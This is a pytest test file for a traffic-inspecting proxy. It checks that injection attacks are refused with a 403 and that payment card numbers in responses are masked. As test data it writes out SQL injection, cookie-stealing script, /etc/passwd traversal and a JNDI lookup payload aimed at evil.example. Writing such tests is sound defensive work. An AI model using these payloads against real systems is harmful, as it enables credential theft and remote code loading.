"""What passes is looked into: attacks are refused wherever they hide, card numbers do not leave."""

import json
import time
import zlib

import pytest

from raw_client import Closed, request

SQL = "1' UNION SELECT username,password FROM users-- -"
SQL_ENCODED = "1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-"
SCRIPT_ENCODED = "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
CARD, MASTER = b"4111111111111111", b"5500005555555559"
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")

ATTACKS = {
    "path": request("GET", f"/files/{SCRIPT_ENCODED}"),
    "path traversal in the query": request("GET", "/?file=../../../../etc/passwd"),
    "query": request("GET", f"/?id={SQL_ENCODED}"),
    "query with plus": request("GET", "/?id=1'+UNION+SELECT+a,b+FROM+users--+-"),
    "second parameter": request("GET", f"/?a=1&b={SCRIPT_ENCODED}"),
    "header": request("GET", "/", [("X-Search", "<script>alert(document.cookie)</script>")]),
    "user agent": request("GET", "/", [("User-Agent", "${jndi:ldap://evil.example/a}")]),
    "cookie": request("GET", "/", [("Cookie", f"theme=dark; id={SQL_ENCODED}")]),
    "form body": request("POST", "/", [FORM], f"a=1&id={SQL_ENCODED}".encode()),
    "JSON body": request("POST", "/", [JSON], json.dumps({"a": 1, "q": SQL}).encode()),
    "JSON with escapes": request("POST", "/", [JSON], b'{"q":"\\u003cscript\\u003ealert(document.cookie)\\u003c/script"}'),
    "chunked JSON body": b"POST / HTTP/1.1\r\nHost: orders.shop\r\nContent-Type: application/json\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n"
                         + b"".join(b"1\r\n%c\r\n" % byte for byte in json.dumps({"q": SQL}).encode()) + b"0\r\n\r\n",
}


@pytest.mark.parametrize("where", ATTACKS)
def test_an_attack_is_refused(shared, where):
    seen = len(shared.application.requests)
    with shared.peer() as client:
        client.send(ATTACKS[where])
        answer = client.read()
    assert answer.status == 403, answer
    assert len(shared.application.requests) == seen
    line = shared.inbound.wait_access(response_code=403)
    assert line["reason"] == "attack_detected"
    assert line["threats"]
    assert shared.inbound.wait_audit(reason="attack_detected", request_id=line["request_id"])


@pytest.mark.parametrize("where", ["query", "form body", "JSON body", "header"])
def test_an_attack_split_across_segments_is_refused(shared, where):
    wire = ATTACKS[where]
    with shared.peer() as client:
        client.send(*[wire[index:index + 3] for index in range(0, len(wire), 3)], pause=0.0005)
        assert client.read().status == 403


def test_an_attack_body_cut_anywhere_is_refused(shared):
    wire = ATTACKS["form body"]
    head = wire.index(b"\r\n\r\n") + 4
    for cut in range(head, len(wire), 3):
        with shared.plain() as client:
            client.send(wire[:cut], wire[cut:], pause=0.001)
            assert client.read().status == 403


@pytest.mark.parametrize("padding", [8, 16, 32, 64, 128])
def test_an_attack_behind_padding_is_refused(shared, padding):
    seen = len(shared.application.requests)
    body = b"filler=" + b"x" * (padding * 1024) + f"&id={SQL_ENCODED}".encode()
    with shared.peer() as client:
        client.send(request("POST", "/", [FORM], body))
        try:
            assert client.read().status in (403, 413)
        except (Closed, OSError):
            pass  # refused while the body was still coming
    assert shared.inbound.wait_told("attack_detected", "hold_limit")
    assert len(shared.application.requests) == seen


def test_a_compressed_attack_is_refused(shared):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = packer.compress(f"id={SQL_ENCODED}".encode()) + packer.flush()
    with shared.peer() as client:
        assert client.ask("POST", "/", [FORM, ("Content-Encoding", "gzip")], body).status == 403


def test_a_body_nobody_can_read_is_refused(shared):
    with shared.peer() as client:
        assert client.ask("POST", "/", [FORM, ("Content-Encoding", "x-rot13")], b"a=b").status == 415
    assert shared.inbound.wait_access(response_code=415)["reason"] == "not_inspectable"


HARMLESS = {
    "query": request("GET", "/?q=select+a+union+for+workers&name=O'Brien&n=1-1"),
    "JSON": request("POST", "/", [JSON], b'{"name": "Dwayne O\'Neil", "text": "drop the table in the kitchen; 3 < 4"}'),
    "form": request("POST", "/", [FORM], b"comment=I+like+%3C3+you+%26+me&order=desc"),
    "binary": request("POST", "/", [("Content-Type", "application/octet-stream")], bytes(range(256)) * 64),
    "browser": request("GET", "/a/b.html?x=1", [
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"), ("Cookie", "session=abc.def-ghi; theme=dark")]),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_harmless_requests_pass(shared, what):
    with shared.caller() as client:
        client.send(HARMLESS[what])
        assert client.read().status == 200


def test_evidence_does_not_repeat_the_value(shared):
    with shared.peer() as client:
        client.send(request("POST", "/", [FORM], f"id={SQL_ENCODED}+s3cr3tvalue".encode()))
        assert client.read().status == 403
    shared.inbound.wait_audit(reason="attack_detected")
    assert "s3cr3tvalue" not in shared.inbound.text("audit.log", "access.log")


@pytest.mark.parametrize("attacks,status", [("log", 200), ("off", 200), ("block", 403)])
def test_the_profile_says_what_happens_to_an_attack(mesh, attacks, status):
    mesh.start_application()
    mesh.start_inbound(inspection={"profiles": {"default": {"attacks": attacks}}})
    with mesh.peer() as client:
        assert client.ask("GET", f"/?id={SQL_ENCODED}").status == status
    assert bool(mesh.inbound.wait_access(response_code=status).get("threats")) == (attacks != "off")


def answer_of(body, chunk=None, content_type=b"application/json"):
    head = b"HTTP/1.1 200 OK\r\nContent-Type: " + content_type + b"\r\n"
    if chunk is None:
        return head + b"Content-Length: %d\r\n\r\n" % len(body) + body
    pieces = [body[index:index + chunk] for index in range(0, len(body), chunk)]
    return head + b"Transfer-Encoding: chunked\r\n\r\n" + b"".join(
        b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


BODY = b'{"orders":[{"id":1,"card":"' + CARD + b'"},{"id":2,"card":"' + MASTER + b'"}],"note":"1234567890123456"}'


def assert_masked(body, original):
    assert len(body) == len(original)
    assert CARD not in body and MASTER not in body
    assert b'"note":"1234567890123456"' in body, "a number that fails the check digit is no card number"
    assert json.loads(body)["orders"][0]["id"] == 1


@pytest.mark.parametrize("chunk", [None, 1, 2, 7, 16, 31, 10000])
def test_a_card_number_in_an_answer_is_covered(shared, wild, chunk):
    wild(answer_of(BODY, chunk))
    with shared.caller() as client:
        answer = client.ask("GET", "/", host="wild.shop")
    assert answer.status == 200
    assert_masked(answer.body, BODY)
    assert shared.inbound.wait_access(response_code=200)["pii"]
    assert shared.inbound.wait_audit()
    for sidecar in (shared.inbound, shared.outbound):
        assert CARD.decode() not in sidecar.text("audit.log")


@pytest.mark.parametrize("cut", range(1, len(CARD)))
def test_a_card_number_cut_anywhere_is_covered(shared, wild, cut):
    wire = answer_of(BODY)
    place = wire.index(CARD) + cut
    wild(wire[:place], lambda _: time.sleep(0.01), wire[place:])
    with shared.peer("wild") as client:
        assert_masked(client.ask("GET", "/", host="wild.shop").body, BODY)


@pytest.mark.parametrize("written", [b"4111 1111 1111 1111", b"4111-1111-1111-1111"])
def test_a_card_number_with_separators_is_covered(shared, wild, written):
    wild(answer_of(b'{"card":"' + written + b'"}'))
    with shared.peer("wild") as client:
        body = client.ask("GET", "/", host="wild.shop").body
    assert written not in body and len(body) == len(b'{"card":"' + written + b'"}')


def test_a_card_number_far_into_an_answer_is_covered(shared, wild):
    body = b"x" * 1_000_000 + b" " + CARD + b" " + b"y" * 1_000_000
    wild(answer_of(body, content_type=b"text/plain"))
    with shared.caller() as client:
        seen = client.ask("GET", "/", host="wild.shop").body
    assert len(seen) == len(body) and CARD not in seen
    assert seen[:1_000_000] == body[:1_000_000] and seen[-1_000_000:] == body[-1_000_000:]


def test_an_answer_that_ends_with_the_connection_is_covered_too(shared, wild):
    wild(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\ncard " + CARD)
    with shared.peer("wild") as client:
        body = client.ask("GET", "/", host="wild.shop").body
    assert body.startswith(b"card ") and len(body) == 21 and CARD not in body


@pytest.mark.parametrize("cards,status,visible", [("off", 200, True), ("log", 200, True), ("mask", 200, False)])
def test_the_profile_says_what_happens_to_a_card_number(mesh, cards, status, visible):
    mesh.start_application()
    mesh.start_inbound(inspection={"profiles": {"default": {"paymentCards": cards}}})
    mesh.start_wild(answer_of(BODY))
    with mesh.peer("wild") as client:
        answer = client.ask("GET", "/", host="wild.shop")
    assert answer.status == status
    assert (CARD in answer.body) == visible
    assert bool(mesh.inbound.wait_access(response_code=status).get("pii")) == (cards != "off")


def test_a_blocked_card_number_does_not_leave(mesh):
    mesh.start_application()
    mesh.start_inbound(inspection={"profiles": {"default": {"paymentCards": "block"}}})
    mesh.start_wild(answer_of(BODY))
    with mesh.peer("wild") as client:
        client.send(request("GET", "/", host="wild.shop"))
        try:
            answer = client.read()
            assert answer.status == 403
            assert CARD not in answer.body
        except Closed as closed:
            assert CARD not in closed.received
    assert mesh.inbound.wait_access(reason="sensitive_data")


def test_a_compressed_answer_cannot_carry_a_card_number_out(shared, wild):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = packer.compress(BODY) + packer.flush()
    wild(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
         b"Content-Length: %d\r\n\r\n" % len(body) + body)
    with shared.peer("wild") as client:
        answer = client.ask("GET", "/", host="wild.shop")
    assert answer.status == 200 and "content-encoding" not in answer.headers
    assert_masked(answer.body, BODY)


def test_findings_are_counted(shared):
    before = shared.inbound.metric("gabion_findings_total", detector="attack")
    with shared.peer() as client:
        client.send(ATTACKS["query"])
        assert client.read().status == 403
    assert shared.inbound.metric("gabion_findings_total", detector="attack") > before


def test_an_attack_in_a_trailer_does_not_complete_the_request(shared):
    with shared.peer() as client:
        client.send("POST / HTTP/1.1\r\nHost: orders.shop.svc\r\nTransfer-Encoding: chunked\r\n"
                    "Content-Type: text/plain\r\n\r\n3\r\nabc\r\n0\r\n"
                    "X-Note: 1' UNION SELECT password FROM users--\r\n\r\n")
        assert client.read().status == 403
    assert shared.inbound.wait_audit(reason="attack_detected")
